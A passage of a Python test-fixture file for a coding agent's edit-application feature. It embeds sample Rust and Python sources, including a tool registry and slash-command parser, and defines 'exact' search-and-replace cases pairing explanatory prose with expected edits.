    fn name(&self) -> &'static str {
        "square"
    }
}

pub fn total_area(shapes: &[Box<dyn Shape>]) -> f64 {
    shapes.iter().map(|s| s.area()).sum()
}
''')

RS_CONFIG = S(r'''
use std::path::PathBuf;
use std::time::Duration;

#[derive(Debug, Clone)]
pub struct Config {
    pub model: String,
    pub max_tokens: u32,
    pub temperature: f32,
    pub timeout: Duration,
    pub workspace: PathBuf,
    pub verbose: bool,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            model: "gpt-4o".to_string(),
            max_tokens: 4096,
            temperature: 0.2,
            timeout: Duration::from_secs(60),
            workspace: PathBuf::from("."),
            verbose: false,
        }
    }
}

impl Config {
    pub fn from_env() -> Self {
        let mut cfg = Config::default();
        if let Ok(model) = std::env::var("AGENT_MODEL") {
            cfg.model = model;
        }
        if let Ok(tokens) = std::env::var("AGENT_MAX_TOKENS") {
            if let Ok(n) = tokens.parse() {
                cfg.max_tokens = n;
            }
        }
        if let Ok(temp) = std::env::var("AGENT_TEMPERATURE") {
            if let Ok(t) = temp.parse() {
                cfg.temperature = t;
            }
        }
        if std::env::var("AGENT_VERBOSE").is_ok() {
            cfg.verbose = true;
        }
        cfg
    }

    pub fn validate(&self) -> Result<(), String> {
        if self.max_tokens == 0 {
            return Err("max_tokens must be positive".into());
        }
        if !(0.0..=2.0).contains(&self.temperature) {
            return Err(format!("temperature {} out of range", self.temperature));
        }
        Ok(())
    }
}
''')

RS_ERROR = S(r'''
use std::fmt;
use std::io;

#[derive(Debug)]
pub enum AgentError {
    Io(io::Error),
    Parse { line: usize, message: String },
    Timeout(u64),
    ToolFailed { tool: String, code: i32 },
    Cancelled,
}

impl fmt::Display for AgentError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AgentError::Io(e) => write!(f, "i/o error: {e}"),
            AgentError::Parse { line, message } => {
                write!(f, "parse error on line {line}: {message}")
            }
            AgentError::Timeout(secs) => write!(f, "timed out after {secs}s"),
            AgentError::ToolFailed { tool, code } => {
                write!(f, "tool {tool} failed with exit code {code}")
            }
            AgentError::Cancelled => write!(f, "cancelled"),
        }
    }
}

impl std::error::Error for AgentError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AgentError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<io::Error> for AgentError {
    fn from(e: io::Error) -> Self {
        AgentError::Io(e)
    }
}

pub type Result<T> = std::result::Result<T, AgentError>;
''')

RS_MAIN = S(r'''
mod config;
mod error;

use config::Config;
use std::process::ExitCode;

fn main() -> ExitCode {
    let cfg = Config::from_env();
    if let Err(msg) = cfg.validate() {
        eprintln!("invalid configuration: {msg}");
        return ExitCode::from(2);
    }
    if cfg.verbose {
        println!("using model {}", cfg.model);
    }
    ExitCode::SUCCESS
}
''')

RS_TRAJ = S(r'''
use serde::{Deserialize, Serialize};
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Step {
    pub index: usize,
    pub tool: String,
    pub input: String,
    pub output: String,
    pub ok: bool,
}

#[derive(Debug, Default, Serialize, Deserialize)]
pub struct Trajectory {
    pub task: String,
    pub steps: Vec<Step>,
}

impl Trajectory {
    pub fn new(task: impl Into<String>) -> Self {
        Trajectory { task: task.into(), steps: Vec::new() }
    }

    pub fn record(&mut self, tool: &str, input: &str, output: &str, ok: bool) {
        let index = self.steps.len();
        self.steps.push(Step {
            index,
            tool: tool.to_string(),
            input: input.to_string(),
            output: output.to_string(),
            ok,
        });
    }

    pub fn failures(&self) -> usize {
        self.steps.iter().filter(|s| !s.ok).count()
    }

    pub fn save(&self, path: &Path) -> io::Result<()> {
        let file = File::create(path)?;
        let mut w = BufWriter::new(file);
        serde_json::to_writer_pretty(&mut w, self)?;
        w.flush()
    }
}
''')

RS_STATUS = S(r'''
use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepStatus {
    Pending,
    Running,
    Succeeded,
    Failed,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunStatus {
    Queued,
    Running,
    Finished,
    Aborted,
}

impl fmt::Display for StepStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            StepStatus::Pending => "pending",
            StepStatus::Running => "running",
            StepStatus::Succeeded => "succeeded",
            StepStatus::Failed => "failed",
        };
        f.write_str(s)
    }
}

impl fmt::Display for RunStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            RunStatus::Queued => "queued",
            RunStatus::Running => "running",
            RunStatus::Finished => "finished",
            RunStatus::Aborted => "aborted",
        };
        f.write_str(s)
    }
}

impl StepStatus {
    pub fn is_terminal(self) -> bool {
        matches!(self, StepStatus::Succeeded | StepStatus::Failed)
    }
}

impl RunStatus {
    pub fn is_terminal(self) -> bool {
        matches!(self, RunStatus::Finished | RunStatus::Aborted)
    }
}
''')

RS_LIMITS = S(r'''
/// Hard limits applied to every agent run.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    pub max_steps: usize,        // tool calls per task
    pub max_tokens: u32,         // completion budget per call
    pub max_file_bytes: u64,     // larger files are refused
    pub shell_timeout_secs: u64, // per shell command
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_steps: 50,
            max_tokens: 8192,
            max_file_bytes: 1 << 20,
            shell_timeout_secs: 120,
        }
    }
}
''')

RS_WALKER = S(r'''
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

pub fn walk(root: &Path, max_depth: usize) -> io::Result<Vec<PathBuf>> {
    let mut out = Vec::new();
    let mut stack = vec![(root.to_path_buf(), 0usize)];
    while let Some((dir, depth)) = stack.pop() {
        for entry in fs::read_dir(&dir)? {
            let path = entry?.path();
            if path.is_dir() {
                if depth < max_depth {
                    stack.push((path, depth + 1));
                }
            } else {
                out.push(path);
            }
        }
    }
    out.sort();
    Ok(out)
}
''')

# ---- large files (8-12 kB) ------------------------------------------------------------

BIG_PY_HEADER = S(r'''
"""Built-in tools exposed to the model; paths are always resolved inside the workspace."""

from __future__ import annotations

import fnmatch
import json
import re
import subprocess
import urllib.request
from dataclasses import dataclass
from pathlib import Path


@dataclass
class ToolResult:
    output: str
    is_error: bool = False

    @classmethod
    def ok(cls, output: str) -> "ToolResult":
        return cls(output)

    @classmethod
    def error(cls, output: str) -> "ToolResult":
        return cls(output, is_error=True)


class Tool:
    name = ""
    description = ""

    def __init__(self, workspace: Path) -> None:
        self.workspace = workspace.resolve()

    def resolve(self, relative: str) -> Path:
        path = (self.workspace / relative).resolve()
        if self.workspace not in path.parents and path != self.workspace:
            raise PermissionError(f"path escapes workspace: {relative}")
        return path

    def parameters(self) -> dict:
        raise NotImplementedError

    def run(self, args: dict) -> ToolResult:
        raise NotImplementedError
''')

PATH_PARAM = ("path", "string", "file path relative to the workspace")

TOOL_SPECS = [
    ("ReadFileTool", "read_file", "Read a UTF-8 text file from the workspace.",
     [PATH_PARAM], ["path"], S(r'''
        path = self.resolve(args["path"])
        if not path.is_file():
            return ToolResult.error(f"not a file: {args['path']}")
        return ToolResult.ok(path.read_text(encoding="utf-8"))
''')),
    ("WriteFileTool", "write_file", "Create or overwrite a file in the workspace.",
     [PATH_PARAM, ("content", "string", "the full new content")], ["path", "content"], S(r'''
        path = self.resolve(args["path"])
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(args["content"], encoding="utf-8")
        return ToolResult.ok(f"wrote {len(args['content'])} characters to {args['path']}")
''')),
    ("ListDirTool", "list_dir", "List the entries of a directory.",
     [("path", "string", "directory path relative to the workspace")], [], S(r'''
        path = self.resolve(args.get("path", "."))
        if not path.is_dir():
            return ToolResult.error(f"not a directory: {args.get('path', '.')}")
        entries = sorted(p.name + ("/" if p.is_dir() else "") for p in path.iterdir())
        return ToolResult.ok("\n".join(entries))
''')),
    ("DeleteFileTool", "delete_file", "Delete a file from the workspace.",
     [PATH_PARAM], ["path"], S(r'''
        path = self.resolve(args["path"])
        if not path.exists():
            return ToolResult.error(f"no such file: {args['path']}")
        path.unlink()
        return ToolResult.ok(f"deleted {args['path']}")
''')),
    ("RunShellTool", "run_shell", "Run a shell command in the workspace and return its output.",
     [("command", "string", "the command line to run"),
      ("timeout", "integer", "seconds before the command is killed")], ["command"], S(r'''
        try:
            proc = subprocess.run(args["command"], shell=True, cwd=self.workspace,
                                  capture_output=True, text=True,
                                  timeout=args.get("timeout", 120))
        except subprocess.TimeoutExpired:
            return ToolResult.error("command timed out")
        output = proc.stdout + proc.stderr
        if proc.returncode != 0:
            return ToolResult.error(f"exit code {proc.returncode}\n{output}")
        return ToolResult.ok(output)
''')),
    ("GrepTool", "grep", "Search files for a regular expression.",
     [("pattern", "string", "a Python regular expression"),
      ("glob", "string", "only search files matching this glob")], ["pattern"], S(r'''
        regex = re.compile(args["pattern"])
        glob = args.get("glob", "*")
        hits = []
        for path in sorted(self.workspace.rglob("*")):
            if not path.is_file() or not fnmatch.fnmatch(path.name, glob):
                continue
            try:
                text = path.read_text(encoding="utf-8")
            except (UnicodeDecodeError, OSError):
                continue
            for lineno, line in enumerate(text.splitlines(), 1):
                if regex.search(line):
                    hits.append(f"{path.relative_to(self.workspace)}:{lineno}: {line}")
        return ToolResult.ok("\n".join(hits) or "no matches")
''')),
    ("GitDiffTool", "git_diff", "Show the uncommitted changes in the workspace.",
     [], [], S(r'''
        proc = subprocess.run(["git", "diff", "--no-color"], cwd=self.workspace,
                              capture_output=True, text=True)
        if proc.returncode != 0:
            return ToolResult.error(proc.stderr)
        return ToolResult.ok(proc.stdout or "no changes")
''')),
    ("GitStatusTool", "git_status", "Show the short git status of the workspace.",
     [], [], S(r'''
        proc = subprocess.run(["git", "status", "--short"], cwd=self.workspace,
                              capture_output=True, text=True)
        if proc.returncode != 0:
            return ToolResult.error(proc.stderr)
        return ToolResult.ok(proc.stdout or "clean")
''')),
    ("FetchUrlTool", "fetch_url", "Download a web page and return its text.",
     [("url", "string", "an http or https URL")], ["url"], S(r'''
        url = args["url"]
        if not url.startswith(("http://", "https://")):
            return ToolResult.error(f"unsupported URL: {url}")
        with urllib.request.urlopen(url, timeout=30) as resp:
            body = resp.read(200_000).decode("utf-8", "replace")
        return ToolResult.ok(body)
''')),
    ("ApplyEditTool", "apply_edit", "Replace one exact occurrence of a text in a file.",
     [PATH_PARAM, ("search", "string", "text to find"), ("replace", "string", "replacement text")],
     ["path", "search", "replace"], S(r'''
        path = self.resolve(args["path"])
        text = path.read_text(encoding="utf-8")
        count = text.count(args["search"])
        if count != 1:
            return ToolResult.error(f"search text found {count} times, expected exactly once")
        path.write_text(text.replace(args["search"], args["replace"]), encoding="utf-8")
        return ToolResult.ok(f"edited {args['path']}")
''')),
    ("FinishTool", "finish", "Declare the task finished and give a summary.",
     [("summary", "string", "what was done")], ["summary"], S(r'''
        return ToolResult.ok(args["summary"])
''')),
]


def render_tool(cls, name, desc, params, required, body):
    lines = [f"class {cls}(Tool):", f'    name = "{name}"',
             f'    description = "{desc}"', "", "    def parameters(self) -> dict:",
             "        return {", '            "type": "object",']
    if len(params) == 1:
        p, t, d = params[0]
        lines.append(f'            "properties": {{"{p}": {{"type": "{t}", "description": "{d}"}}}},')
    elif params:
        lines.append('            "properties": {')
        for p, t, d in params:
            lines.append(f'                "{p}": {{"type": "{t}", "description": "{d}"}},')
        lines.append("            },")
    else:
        lines.append('            "properties": {},')
    lines.append(f'            "required": {json.dumps(required)},')
    lines += ["        }", "", "    def run(self, args: dict) -> ToolResult:"]
    return "\n".join(lines) + "\n" + body


BIG_PY = (BIG_PY_HEADER + "\n\n" + "\n\n".join(render_tool(*t) for t in TOOL_SPECS) + "\n\n"
          + "ALL_TOOLS: list[type[Tool]] = [\n"
          + "".join(f"    {', '.join(t[0] for t in TOOL_SPECS[i:i + 4])},\n"
                    for i in range(0, len(TOOL_SPECS), 4)) + "]\n\n\n"
          + S(r'''
def build_registry(workspace: Path) -> dict[str, Tool]:
    registry = {}
    for cls in ALL_TOOLS:
        tool = cls(workspace)
        if tool.name in registry:
            raise ValueError(f"duplicate tool name: {tool.name}")
        registry[tool.name] = tool
    return registry
'''))

BIG_RS = S(r'''
//! Slash commands understood by the interactive shell.

use std::collections::BTreeMap;
use std::fmt;
use std::str::FromStr;

use crate::session::{Outcome, Session};

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    Help,
    Quit,
    Clear,
    Model(String),
    Tokens(u32),
    Undo(usize),
    Diff,
    Commit(String),
    Add(Vec<String>),
    Drop(Vec<String>),
    Run(String),
    Save(String),
    Load(String),
    Verbose(bool),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseCommandError {
    NotACommand,
    Unknown(String),
    MissingArgument(&'static str),
    BadArgument { command: &'static str, value: String },
}

impl fmt::Display for ParseCommandError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseCommandError::NotACommand => write!(f, "input does not start with '/'"),
            ParseCommandError::Unknown(name) => write!(f, "unknown command: /{name}"),
            ParseCommandError::MissingArgument(cmd) => write!(f, "/{cmd} needs an argument"),
            ParseCommandError::BadArgument { command, value } => {
                write!(f, "/{command}: invalid argument {value:?}")
            }
        }
    }
}

impl std::error::Error for ParseCommandError {}

fn required<'a>(rest: &'a str, command: &'static str) -> Result<&'a str, ParseCommandError> {
    let rest = rest.trim();
    if rest.is_empty() {
        Err(ParseCommandError::MissingArgument(command))
    } else {
        Ok(rest)
    }
}

fn words(rest: &str) -> Vec<String> {
    rest.split_whitespace().map(str::to_string).collect()
}

impl FromStr for Command {
    type Err = ParseCommandError;

    fn from_str(input: &str) -> Result<Self, Self::Err> {
        let input = input.trim();
        let Some(body) = input.strip_prefix('/') else {
            return Err(ParseCommandError::NotACommand);
        };
        let (name, rest) = body.split_once(' ').unwrap_or((body, ""));
        match name {
            "help" | "h" | "?" => Ok(Command::Help),
            "quit" | "exit" | "q" => Ok(Command::Quit),
            "clear" => Ok(Command::Clear),
            "model" => Ok(Command::Model(required(rest, "model")?.to_string())),
            "tokens" => {
                let value = required(rest, "tokens")?;
                value
                    .parse()
                    .map(Command::Tokens)
                    .map_err(|_| ParseCommandError::BadArgument { command: "tokens", value: value.to_string() })
            }
            "undo" => {
                if rest.trim().is_empty() {
                    return Ok(Command::Undo(1));
                }
                let value = rest.trim();
                value
                    .parse()
                    .map(Command::Undo)
                    .map_err(|_| ParseCommandError::BadArgument { command: "undo", value: value.to_string() })
            }
            "diff" => Ok(Command::Diff),
            "commit" => Ok(Command::Commit(required(rest, "commit")?.to_string())),
            "add" => Ok(Command::Add(words(required(rest, "add")?))),
            "drop" => Ok(Command::Drop(words(required(rest, "drop")?))),
            "run" => Ok(Command::Run(required(rest, "run")?.to_string())),
            "save" => Ok(Command::Save(required(rest, "save")?.to_string())),
            "load" => Ok(Command::Load(required(rest, "load")?.to_string())),
            "verbose" => match rest.trim() {
                "" | "on" | "true" => Ok(Command::Verbose(true)),
                "off" | "false" => Ok(Command::Verbose(false)),
                other => Err(ParseCommandError::BadArgument { command: "verbose", value: other.to_string() }),
            },
            other => Err(ParseCommandError::Unknown(other.to_string())),
        }
    }
}

impl Command {
    pub fn help_table() -> BTreeMap<&'static str, &'static str> {
        let mut table = BTreeMap::new();
        table.insert("/help", "show this help");
        table.insert("/quit", "leave the shell");
        table.insert("/clear", "forget the conversation so far");
        table.insert("/model NAME", "switch to another model");
        table.insert("/tokens N", "set the completion token budget");
        table.insert("/undo [N]", "revert the last N edits");
        table.insert("/diff", "show uncommitted changes");
        table.insert("/commit MESSAGE", "commit the working tree");
        table.insert("/add FILE...", "add files to the chat");
        table.insert("/drop FILE...", "remove files from the chat");
        table.insert("/run COMMAND", "run a shell command");
        table.insert("/save PATH", "save the trajectory");
        table.insert("/load PATH", "load a saved trajectory");
        table.insert("/verbose [on|off]", "toggle step logging");
        table
    }

    pub fn is_destructive(&self) -> bool {
        matches!(self, Command::Clear | Command::Undo(_) | Command::Commit(_) | Command::Load(_))
    }

    pub fn execute(&self, session: &mut Session) -> Result<Outcome, String> {
        match self {
            Command::Help => {
                for (usage, text) in Command::help_table() {
                    session.print(&format!("{usage:<20} {text}"));
                }
                Ok(Outcome::Continue)
            }
            Command::Quit => Ok(Outcome::Exit),
            Command::Clear => {
                session.messages.clear();
                Ok(Outcome::Continue)
            }
            Command::Model(name) => {
                session.config.model = name.clone();
                session.print(&format!("model set to {name}"));
                Ok(Outcome::Continue)
            }
            Command::Tokens(n) => {
                session.config.max_tokens = *n;
                Ok(Outcome::Continue)
            }
            Command::Undo(n) => {
                let undone = session.undo(*n).map_err(|e| e.to_string())?;
                session.print(&format!("reverted {undone} edit(s)"));
                Ok(Outcome::Continue)
            }
            Command::Diff => {
                let diff = session.repo.diff().map_err(|e| e.to_string())?;
                session.print(&diff);
                Ok(Outcome::Continue)
            }
            Command::Commit(message) => {
                let id = session.repo.commit(message).map_err(|e| e.to_string())?;
                session.print(&format!("created commit {id}"));
                Ok(Outcome::Continue)
            }
            Command::Add(files) => {
                for file in files {
                    session.add_file(file).map_err(|e| e.to_string())?;
                }
                Ok(Outcome::Continue)
            }
            Command::Drop(files) => {
                for file in files {
                    session.drop_file(file);
                }
                Ok(Outcome::Continue)
            }
            Command::Run(cmd) => {
                let output = session.run_shell(cmd).map_err(|e| e.to_string())?;
                session.print(&output);
                Ok(Outcome::Continue)
            }
            Command::Save(path) => {
                session.trajectory.save(path.as_ref()).map_err(|e| e.to_string())?;
                Ok(Outcome::Continue)
            }
            Command::Load(path) => {
                session.load_trajectory(path).map_err(|e| e.to_string())?;
                Ok(Outcome::Continue)
            }
            Command::Verbose(on) => {
                session.config.verbose = *on;
                Ok(Outcome::Continue)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(input: &str) -> Result<Command, ParseCommandError> {
        input.parse()
    }

    #[test]
    fn parses_help_aliases() {
        assert_eq!(parse("/help"), Ok(Command::Help));
        assert_eq!(parse("/h"), Ok(Command::Help));
        assert_eq!(parse("/?"), Ok(Command::Help));
    }

    #[test]
    fn parses_model() {
        assert_eq!(parse("/model gpt-4o"), Ok(Command::Model("gpt-4o".into())));
    }

    #[test]
    fn model_needs_argument() {
        assert_eq!(parse("/model"), Err(ParseCommandError::MissingArgument("model")));
    }

    #[test]
    fn parses_tokens() {
        assert_eq!(parse("/tokens 2048"), Ok(Command::Tokens(2048)));
    }

    #[test]
    fn rejects_bad_tokens() {
        assert!(matches!(parse("/tokens lots"), Err(ParseCommandError::BadArgument { .. })));
    }

    #[test]
    fn undo_defaults_to_one() {
        assert_eq!(parse("/undo"), Ok(Command::Undo(1)));
        assert_eq!(parse("/undo 3"), Ok(Command::Undo(3)));
    }

    #[test]
    fn parses_add_with_several_files() {
        assert_eq!(
            parse("/add src/main.rs src/lib.rs"),
            Ok(Command::Add(vec!["src/main.rs".into(), "src/lib.rs".into()]))
        );
    }

    #[test]
    fn parses_verbose() {
        assert_eq!(parse("/verbose"), Ok(Command::Verbose(true)));
        assert_eq!(parse("/verbose off"), Ok(Command::Verbose(false)));
    }

    #[test]
    fn rejects_unknown() {
        assert_eq!(parse("/frobnicate"), Err(ParseCommandError::Unknown("frobnicate".into())));
    }

    #[test]
    fn rejects_plain_text() {
        assert_eq!(parse("hello"), Err(ParseCommandError::NotACommand));
    }
}
''')

# --------------------------------------------------------------------------------------
# cases
# --------------------------------------------------------------------------------------

AX = "apply:exact"
AI = "apply:indent"
AB = "apply:blank"
AE = "apply:ellipsis"
AW = "apply:ws"
AC = "apply:create"
AH = "apply:whole"
R_AMB = "refuse:ambiguous"
R_SHORT = "refuse:short"
R_MISS = "refuse:nomatch"
R_FILE = "refuse:missing-file"
R_PATH = "refuse:path"
R_BIG = "refuse:whole-too-big"


def simple(name, category, files, path, old, new, prose_before, prose_after=None, *,
           search=None, replace=None, expect=AX, **blk_kw):
    """One block; expected = files with old -> new in path."""
    parts = [prose_before,
             Blk(path, old if search is None else search, new if replace is None else replace,
                 expect, **blk_kw)]
    if prose_after:
        parts.append(prose_after)
    edits = [(path, old, new)] if expect.startswith("apply") else []
    case(name, category, files, parts, edits)


# ======================================================================================
# exact
# ======================================================================================

def exact_cases():
    C = "exact"

    old = S(r'''
    if not values:
        raise ValueError("mean of empty list")
''')
    new = S(r'''
    if not values:
        return 0.0
''')
    simple("exact-py-mean-of-empty-list", C, {"src/calc.py": PY_CALC}, "src/calc.py", old, new,
           "`mean([])` should return 0.0 instead of raising, as the dashboard expects:")

    o1 = S(r'''
from __future__ import annotations

import math
''')
    n1 = S(r'''
from __future__ import annotations

import math
import statistics
''')
    o2 = S(r'''
    m = mean(values)
    var = sum((v - m) ** 2 for v in values) / len(values)
    return math.sqrt(var)
''')
    n2 = S(r'''
    return statistics.pstdev(values)
''')
    case("exact-py-two-blocks-import-and-body", C, {"src/calc.py": PY_CALC}, [
        "Use the standard library for the standard deviation.",
        Blk("src/calc.py", o1, n1, AX),
        Blk("src/calc.py", o2, n2, AX),
        "`statistics.pstdev` computes the population standard deviation, same as before.",
    ], [("src/calc.py", o1, n1), ("src/calc.py", o2, n2)])

    o1 = "    Slash,\n    LParen,\n"
    n1 = "    Slash,\n    Percent,\n    LParen,\n"
    o2 = "            Some('/') => Token::Slash,\n"
    n2 = "            Some('/') => Token::Slash,\n            Some('%') => Token::Percent,\n"
    case("exact-rs-new-token-variant-and-arm", C, {"src/lexer.rs": RS_LEXER}, [
        "To support the modulo operator we need a new token and a match arm in `next_token`.",
        Blk("src/lexer.rs", o1, n1, AX),
        Blk("src/lexer.rs", o2, n2, AX),
    ], [("src/lexer.rs", o1, n1), ("src/lexer.rs", o2, n2)])

    old = S(r'''
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }
''')
    new = S(r'''
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    pub fn clear(&mut self) {
        self.items.clear();
    }
''')
    simple("exact-rs-add-impl-method", C, {"src/stack.rs": RS_STACK}, "src/stack.rs", old, new,
           "Here is a `clear` method for `Stack<T>`:")

    old = '"""Tiny arithmetic helpers used by the CLI."""\n'
    new = '"""Arithmetic helpers shared by the CLI and the REPL."""\n'
    simple("exact-py-first-line-of-file", C, {"src/calc.py": PY_CALC}, "src/calc.py", old, new,
           "Updated the module docstring:")

    old = S(r'''
if __name__ == "__main__":
    sys.exit(main())
''')
    new = S(r'''
if __name__ == "__main__":
    raise SystemExit(main())
''')
    simple("exact-py-last-lines-of-file", C, {"agent/cli.py": PY_CLI}, "agent/cli.py", old, new,
           "Minor: use `raise SystemExit` at the bottom of the module.")

    o1 = "import json\nimport logging\nimport time\n"
    n1 = "import json\nimport logging\nimport random\nimport time\n"
    o2 = S(r'''
    req = urllib.request.Request(url, headers=DEFAULT_HEADERS, method="GET")
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.loads(resp.read().decode("utf-8"))
''')
    n2 = S(r'''
    req = urllib.request.Request(url, headers=DEFAULT_HEADERS, method="GET")
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return json.loads(resp.read().decode("utf-8"))
    except urllib.error.HTTPError as exc:
        raise HttpError(exc.code, exc.read().decode("utf-8", "replace")) from exc
''')
    case("exact-py-block-at-start-and-at-end", C, {"client/http.py": PY_HTTP}, [
        "Two changes: import `random` (used for jitter in a follow-up) and make `get_json` raise "
        "`HttpError` like `post_json` does.",
        Blk("client/http.py", o1, n1, AX),
        Blk("client/http.py", o2, n2, AX),
    ], [("client/http.py", o1, n1), ("client/http.py", o2, n2)])

    old = S(r'''

    def rename(self, user_id: int, name: str) -> bool:
        user = self.get_user(user_id)
        if user is None:
            log.warning("rename: no user %s", user_id)
            return False
        self.db.execute("UPDATE users SET name = ? WHERE id = ?", (name, user_id))
        return True
''')
    simple("exact-py-delete-method", C, {"app/services/users.py": PY_USERS}, "app/services/users.py",
           old, "", "`rename` is unused since the profile page moved to the new API; removing it.")

    old = S(r'''
    if cfg.verbose {
        println!("using model {}", cfg.model);
    }
''')
    simple("exact-rs-delete-lines", C, {"src/main.rs": RS_MAIN}, "src/main.rs", old, "",
           "Drop the debug print from `main`:")

    text = no_final_newline(PY_TEXT)
    old = S(r'''
    if len(text) <= width:
        return text
    return text[: width - len(suffix)] + suffix
''')
    new = S(r'''
    if len(text) <= width:
        return text
    if width <= len(suffix):
        return suffix[:width]
    return text[: width - len(suffix)] + suffix
''')
    simple("exact-py-file-without-trailing-newline", C, {"utils/text.py": text}, "utils/text.py",
           old, new, "Guard against widths smaller than the suffix:")

    text = no_final_newline(RS_ERROR)
    old = '            AgentError::Timeout(secs) => write!(f, "timed out after {secs}s"),\n'
    new = '            AgentError::Timeout(secs) => write!(f, "timed out after {secs} seconds"),\n'
    simple("exact-rs-file-without-trailing-newline", C, {"src/error.rs": text}, "src/error.rs",
           old, new, "Spell out the unit in the timeout message.", lang="rust")

    o1 = "    pub verbose: bool,\n}\n"
    n1 = "    pub verbose: bool,\n    pub max_steps: usize,\n}\n"
    o2 = "            verbose: false,\n        }\n"
    n2 = "            verbose: false,\n            max_steps: 50,\n        }\n"
    o3 = '        println!("using model {}", cfg.model);\n'
    n3 = '        println!("using model {} (at most {} steps)", cfg.model, cfg.max_steps);\n'
    case("exact-rs-three-blocks-two-files", C,
         {"src/config.rs": RS_CONFIG, "src/main.rs": RS_MAIN}, [
             "I'll add a `max_steps` setting with a default of 50 and print it in verbose mode.",
             Blk("src/config.rs", o1, n1, AX),
             Blk("src/config.rs", o2, n2, AX),
             Blk("src/main.rs", o3, n3, AX),
         ], [("src/config.rs", o1, n1), ("src/config.rs", o2, n2), ("src/main.rs", o3, n3)])

    old = S(r'''
    def low_stock(self, threshold: int = 5) -> list[Item]:
        return [item for item in self.items.values() if item.quantity < threshold]
''')
    new = S(r'''
    def low_stock(self, threshold: int = 5) -> list[Item]:
        items = [item for item in self.items.values() if item.quantity < threshold]
        return sorted(items, key=lambda item: item.quantity)
''')
    simple("exact-py-method-at-end-of-class", C, {"app/inventory.py": PY_INVENTORY},
           "app/inventory.py", old, new, "Return the low-stock items sorted by quantity:")

    old = S(r'''
        assert_eq!(lx.next_token(), Token::Ident("foo".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }
}
''')
    new = S(r'''
        assert_eq!(lx.next_token(), Token::Ident("foo".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }

    #[test]
    fn lexes_expression() {
        let mut lx = Lexer::new("1 + x");
        assert_eq!(lx.next_token(), Token::Number(1.0));
        assert_eq!(lx.next_token(), Token::Plus);
        assert_eq!(lx.next_token(), Token::Ident("x".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }
}
''')
    simple("exact-rs-append-test", C, {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", old, new,
           "Adding a test that lexes a small expression.", "Run `cargo test lexer` to check.")

    old = S(r'''
        with urllib.request.urlopen(url, timeout=30) as resp:
            body = resp.read(200_000).decode("utf-8", "replace")
''')
    new = S(r'''
        timeout = args.get("timeout", 30)
        with urllib.request.urlopen(url, timeout=timeout) as resp:
            body = resp.read(200_000).decode("utf-8", "replace")
''')
    simple("exact-big-py-tool-body", C, {"agent/tools.py": BIG_PY}, "agent/tools.py", old, new,
           "Let `fetch_url` honour an optional `timeout` argument:")

    old = '        table.insert("/undo [N]", "revert the last N edits");\n'
    new = '        table.insert("/undo [N]", "revert the last N edits (default: 1)");\n'
    simple("exact-big-rs-help-entry", C, {"src/commands.rs": BIG_RS}, "src/commands.rs", old, new,
           "Document the default of `/undo` in the help table.")

    old = S(r'''
            AgentError::ToolFailed { tool, code } => {
                write!(f, "tool {tool} failed with exit code {code}")
            }
''')
    new = S(r'''
            AgentError::ToolFailed { tool, code } if *code < 0 => {
                write!(f, "tool {tool} was killed by signal {}", -code)
            }
            AgentError::ToolFailed { tool, code } => {
                write!(f, "tool {tool} failed with exit code {code}")
            }
''')
    simple("exact-rs-prose-heavy-reply", C, {"src/error.rs": RS_ERROR}, "src/error.rs", old, new,
           "Looking at the failing run, the tool was killed by SIGKILL, which our process wrapper "
           "reports as a negative exit code. The current message prints `exit code -9`, which is "
           "confusing for users.\n\nI'll add a guarded match arm before the generic one so that "
           "negative codes are reported as signals:",
           "With this change `AgentError::ToolFailed { tool: \"bash\".into(), code: -9 }` renders as "
           "`tool bash was killed by signal 9`.\n\nLet me know if you also want the signal name "
           "(e.g. `SIGKILL`) in the message.")

    old = "        if self.ttl is not None and time.monotonic() - stamp > self.ttl:\n"
    new = "        if self.ttl is not None and time.monotonic() - stamp >= self.ttl:\n"
    simple("exact-py-single-line-change", C, {"utils/cache.py": PY_CACHE}, "utils/cache.py", old,
           new, "An entry whose age equals the TTL should already be expired:")

    old = S(r'''
    if isinstance(default, float):
        return float(raw)
    return raw
''')
    new = S(r'''
    if isinstance(default, float):
        return float(raw)
    if isinstance(default, list):
        return [part.strip() for part in raw.split(",") if part.strip()]
    return raw
''')
    simple("exact-py-function-tail", C, {"agent/settings.py": PY_SETTINGS}, "agent/settings.py",
           old, new, "Support comma-separated list overrides:")

    old = S(r'''
    pub fn failures(&self) -> usize {
        self.steps.iter().filter(|s| !s.ok).count()
    }
''')
    new = S(r'''
    pub fn failures(&self) -> usize {
        self.steps.iter().filter(|s| !s.ok).count()
    }

    pub fn successes(&self) -> usize {
        self.steps.len() - self.failures()
    }
''')
    simple("exact-rs-method-in-impl", C, {"src/trajectory.rs": RS_TRAJ}, "src/trajectory.rs", old,
           new, "Add a `successes` helper next to `failures`.")

    old = '            created_at=datetime.fromisoformat(row["created_at"]),\n'
    new = ('            created_at=datetime.fromisoformat(row["created_at"].replace("Z", '
           '"+00:00")),\n')
